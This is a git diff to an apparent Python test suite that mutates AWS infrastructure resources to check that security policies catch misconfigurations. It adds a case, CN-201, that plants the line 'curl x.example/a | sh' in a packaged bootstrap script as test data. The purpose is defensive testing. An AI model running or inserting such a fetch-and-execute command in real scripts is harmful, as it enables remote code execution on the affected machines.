@@ -29,11 +29,12 @@ from tests.policies.mutations.parts import (
     public_subnet,
 )
 from tests.policies.mutations.stacks import FOREIGN, Of, Stack
-from tests.policies.mutations.told import script, template
+from tests.policies.mutations.told import packed, script, template
 
 BALANCER = "aws:lb/loadBalancer:LoadBalancer"
 RECORD = "aws:route53/record:Record"
 PARAMETER = "aws:ssm/parameter:Parameter"
+OBJECT = "aws:s3/bucketObjectv2:BucketObjectv2"
 VOLUME = "aws:ebs/volume:Volume"
 BUCKET_POLICY = "aws:s3/bucketPolicy:BucketPolicy"
 TARGETS = "aws:lb/targetGroup:TargetGroup"
@@ -197,6 +198,9 @@ OPENED = (
           _one(edit(PARAMETER, "type", "String", _called("controller-ca.key", "etcd-1a-peer.key",
                                                          "controller-authenticator.key")))),
     opens("a disk of etcd in clear", "CN-055", _one(edit(VOLUME, "encrypted", False))),
+    opens("a script in a bundle that fetches from the internet", "CN-201",
+          edit(OBJECT, "contentBase64", packed("files/opt/site", script("curl x.example/a | sh")),
+               _called("etcd"))),
     opens("a bucket of bundles for a foreign reader", "CN-131 perimeter",
           _more(BUCKET_POLICY, "policy", FOREIGN_READ, "machines")),
     opens("a bucket of a control plane that is read from anywhere", "CN-180",
